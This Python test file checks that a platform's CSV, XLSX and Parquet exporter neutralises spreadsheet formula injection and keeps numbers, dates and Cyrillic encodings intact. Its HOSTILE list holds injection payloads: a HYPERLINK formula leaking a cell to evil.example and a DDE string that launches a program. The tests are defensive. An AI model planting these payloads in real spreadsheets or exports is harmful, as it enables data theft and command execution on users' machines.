"""Exports (platform/exports.py) as a spreadsheet user and an attacker meet them.

Files are read back with the standard csv module and openpyxl, never with our own
code. The oracles: a CSV cell a spreadsheet could run as a formula (it starts with
= + - @, a tab or CR, also after spaces) must be a plain number; XLSX holds no
formula cell at all, keeps text exactly and flags formula-like text as text; numbers,
negative numbers and dates stay numbers and dates; the Russian dialects decode to
the same text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from clientlens.platform import exports
from clientlens.platform.exports import OutputError, write_rows, write_table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)",
           "\t=1", "\r=1", " =1", "\uff1d1+1", "=cmd|' /C calc'!A0", "Иванова Мария",
           "plain", "a=b", "", "'already quoted", "_x000D_ literal"]
SPREADSHEET_FORMULA_FIRST = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def cp1251_safe(text: str) -> bool:
    try:
        text.encode("cp1251")
    except UnicodeEncodeError:
        return False
    return True


def sample(names: list[str] = HOSTILE) -> pa.Table:
    n = len(names)
    return pa.table({
        "name": names,
        "count": pa.array([(-1) ** i * i for i in range(n)], pa.int64()),
        "balance": pa.array([Decimal("-1500.50") if i % 2 else Decimal("1234567.89")
                             for i in range(n)], pa.decimal128(38, 2)),
        "ratio": [-0.25 if i % 2 else 1e-5 for i in range(n)],
        "opened_on": [dt.date(2026, 10, 31) - dt.timedelta(days=i) for i in range(n)],
        "last_seen": [dt.datetime(2026, 10, 31, 10, 0, i) for i in range(n)],
        "active": [i % 2 == 0 for i in range(n)],
    })


def read_csv(path: Path, dialect: str) -> list[list[str]]:
    d = exports.CSV_DIALECTS[dialect]
    text = path.read_bytes().decode(d.encoding)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=d.delimiter))


def as_number(cell: str, decimal_comma: bool) -> float:
    return float(cell.replace(",", ".") if decimal_comma else cell)


def assert_no_formula_cells(rows: list[list[str]], decimal_comma: bool) -> None:
    """What a spreadsheet could execute: any cell whose first (non-space) character
    starts a formula must be a number."""
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            first = cell.lstrip(" ")[:1] if cell.strip() else cell[:1]
            if cell[:1] in SPREADSHEET_FORMULA_FIRST or first in SPREADSHEET_FORMULA_FIRST:
                try:
                    as_number(cell, decimal_comma)
                except ValueError:
                    pytest.fail(f"row {r}, column {c}: {cell!r} could run as a formula")


@pytest.mark.parametrize("dialect", ["standard", "excel-ru", "excel-bg", "excel-1251"])
def test_csv_neutralises_text_and_keeps_numbers_and_dates(tmp_path: Path, dialect: str
                                                          ) -> None:
    d = exports.CSV_DIALECTS[dialect]
    names = [h for h in HOSTILE if cp1251_safe(h)] if d.encoding == "cp1251" else HOSTILE
    path = write_table(tmp_path / "out.csv", sample(names), dialect=dialect)
    rows = read_csv(path, dialect)
    assert rows[0] == ["name", "count", "balance", "ratio", "opened_on", "last_seen", "active"]
    assert_no_formula_cells(rows, d.decimal_comma)
    body = rows[1:]
    assert len(body) == len(names)
    for i, (original, row) in enumerate(zip(names, body, strict=True)):
        name, count, balance, ratio, opened_on, last_seen, active = row
        # OWASP: a leading ' where a spreadsheet would see a formula; else the text as is
        risky = original[:1] in SPREADSHEET_FORMULA_FIRST or \
            (original.strip() and original.lstrip()[:1] in SPREADSHEET_FORMULA_FIRST)
        assert name == ("'" + original if risky else original), (i, name)
        assert int(count) == (-1) ** i * i
        assert Decimal(balance.replace(",", ".")) == sample()["balance"][i].as_py()
        assert as_number(ratio, d.decimal_comma) == sample()["ratio"][i].as_py()
        assert dt.date.fromisoformat(opened_on) == dt.date(2026, 10, 31) - dt.timedelta(i)
        assert dt.datetime.fromisoformat(last_seen) == dt.datetime(2026, 10, 31, 10, 0, i)
        assert active == ("true" if i % 2 == 0 else "false")
    if d.decimal_comma:
        assert "-1500,50" in [r[2] for r in body] and "." not in "".join(r[2] for r in body)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (d.encoding == "utf-8-sig")


def test_bom_and_1251_files_hold_the_same_text(tmp_path: Path) -> None:
    names = [h for h in HOSTILE if cp1251_safe(h)]
    bom = write_table(tmp_path / "bom.csv", sample(names), dialect="excel-ru")
    win = write_table(tmp_path / "win.csv", sample(names), dialect="excel-1251")
    assert bom.read_bytes().decode("utf-8-sig") == win.read_bytes().decode("cp1251")
    assert "Иванова Мария".encode("cp1251") in win.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        win.read_bytes().decode("utf-8")  # really Windows-1251, not UTF-8


def test_1251_refuses_what_it_cannot_hold_and_writes_nothing(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export\n", encoding="utf-8")
    names = ["Петров"] * 120_000 + ["Őrség 中文"]  # in the third batch
    table = pa.table({"name": names})
    with pytest.raises(OutputError, match=r"line 120002 holds 'Ő' \(U\+0150\).*nothing "
                                          r"was written.*excel-ru"):
        write_table(target, table, dialect="excel-1251")
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temp left


def test_xlsx_keeps_text_exactly_as_text_and_types_numbers_and_dates(tmp_path: Path) -> None:
    path = write_table(tmp_path / "out.xlsx", sample(), sheet="Leads: [2026/10/31]?")
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Leads- -2026-10-31--"  # Excel's forbidden characters replaced
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == sample().column_names
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell  # no formula anywhere
    for i, (original, row) in enumerate(zip(HOSTILE, rows[1:], strict=True)):
        name, count, balance, ratio, opened_on, last_seen, active = row
        if original == "":
            assert name.value in ("", None)
        else:
            # Control characters travel as OOXML's _xHHHH_ escapes, which Excel reads
            # back (openpyxl leaves them to the caller).
            assert unescape(name.value) == original and name.data_type == "s"
            assert name.quotePrefix == exports.starts_formula(original), original
        assert count.data_type == "n" and count.value == (-1) ** i * i
        assert balance.data_type == "n" and balance.number_format == "#,##0.00"
        assert Decimal(str(balance.value)) == sample()["balance"][i].as_py()
        assert ratio.data_type == "n" and ratio.value == sample()["ratio"][i].as_py()
        assert opened_on.is_date and opened_on.value == \
            dt.datetime(2026, 10, 31) - dt.timedelta(days=i)
        assert last_seen.is_date and last_seen.value == dt.datetime(2026, 10, 31, 10, 0, i)
        assert active.data_type == "b" and active.value is (i % 2 == 0)


def test_xlsx_values_excel_cannot_hold_are_kept_as_text(tmp_path: Path) -> None:
    table = pa.table({
        "big": pa.array([Decimal("1234567890123456789.12"), Decimal("-5.00")],
                        pa.decimal128(38, 2)),
        "old": [dt.date(1899, 12, 1), dt.date(1900, 3, 1)],
        "zoned": pa.array([dt.datetime(2026, 10, 31, 7, 0, tzinfo=dt.UTC)] * 2,
                          pa.timestamp("us", "UTC")),
        "nan": [float("nan"), float("-inf")],
    })
    sheet = openpyxl.load_workbook(write_table(tmp_path / "x.xlsx", table)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "1234567890123456789.12"  # never rounded to a double
    assert rows[2][0] == -5
    assert rows[1][1] == "1899-12-01" and rows[2][1] == dt.datetime(1900, 3, 1)
    assert rows[1][2] == "2026-10-31 07:00:00+00:00"  # the offset is kept, not dropped
    assert rows[1][3] == "NaN" and rows[2][3] == "-Infinity"  # Excel has neither


def test_xlsx_row_limit_is_a_clear_error(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 10)
    with pytest.raises(OutputError, match="more than 9 rows do not fit an XLSX sheet"):
        write_table(tmp_path / "x.xlsx", pa.table({"a": list(range(20))}))
    assert not list(tmp_path.iterdir())


def test_parquet_keeps_every_value_exactly(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    path = write_table(tmp_path / "x.parquet", sample())
    assert pq.read_table(path).equals(sample())


def test_rows_with_repeated_or_hostile_column_names(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "m.csv", ["by", "=1+1", "=1+1"],
                      [["-x", 1, 2], ["(total)", 3, None]])
    rows = read_csv(path, "standard")
    assert rows == [["by", "'=1+1", "'=1+1"], ["'-x", "1", "2"], ["(total)", "3", ""]]
    mixed = write_rows(tmp_path / "mixed.csv", ["v"], [[1], ["=x"], [None]])
    # mixed kinds become text; a missing value is an empty field (here a blank line)
    assert read_csv(mixed, "standard") == [["v"], ["1"], ["'=x"], []]
    j = write_rows(tmp_path / "r.json", ["a", "b"], [["=x", 1]], allowed=("csv", "json"))
    assert j.read_text(encoding="utf-8").strip().startswith("[")


def test_formats_and_dialects_are_named_clearly(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match=r"cannot write 'x.ods': use a .csv, .xlsx or "
                                          r".parquet file"):
        write_table(tmp_path / "x.ods", sample())
    with pytest.raises(OutputError, match="unknown CSV dialect 'excel'.*excel-ru"):
        write_table(tmp_path / "x.csv", sample(), dialect="excel")
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    with pytest.raises(OutputError, match="a-file is a file"):
        write_table(tmp_path / "a-file" / "x.csv", sample())
    (tmp_path / "a-folder.csv").mkdir()
    with pytest.raises(OutputError, match="it is a folder"):
        write_table(tmp_path / "a-folder.csv", sample())
    deep = write_table(tmp_path / "new" / "deeper" / "x.csv", sample())
    assert deep.exists() and oct(deep.parent.stat().st_mode & 0o777) == "0o700"


printable = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
with_controls = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=150, deadline=None)
@given(values=st.lists(with_controls, min_size=1, max_size=8))
def test_csv_property_any_text_round_trips_neutralised(tmp_path_factory, values) -> None:
    path = tmp_path_factory.mktemp("p") / "p.csv"
    write_table(path, pa.table({"t": values}))
    rows = read_csv(path, "standard")[1:]
    got = [r[0] if r else "" for r in rows]
    assert got == [exports.neutralise(v) for v in values]
    for cell in got:
        assert cell[:1] not in SPREADSHEET_FORMULA_FIRST
        assert cell.lstrip()[:1] not in SPREADSHEET_FORMULA_FIRST or not cell.strip()
    # the neutralised cell gives the original back: nothing else was changed
    for v, cell in zip(values, got, strict=True):
        assert (cell[1:] if exports.starts_formula(v) else cell) == v


@settings(max_examples=100, deadline=None)
@given(values=st.lists(printable.filter(lambda s: s != ""), min_size=1, max_size=8))
def test_xlsx_property_any_text_is_kept_exactly_and_never_a_formula(tmp_path_factory,
                                                                    values) -> None:
    path = tmp_path_factory.mktemp("x") / "p.xlsx"
    write_table(path, pa.table({"t": values}))
    cells = [row[0] for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2)]
    assert [unescape(c.value) for c in cells] == values
    assert all(c.data_type == "s" for c in cells)
    assert [bool(c.quotePrefix) for c in cells] == [exports.starts_formula(v)
                                                    for v in values]
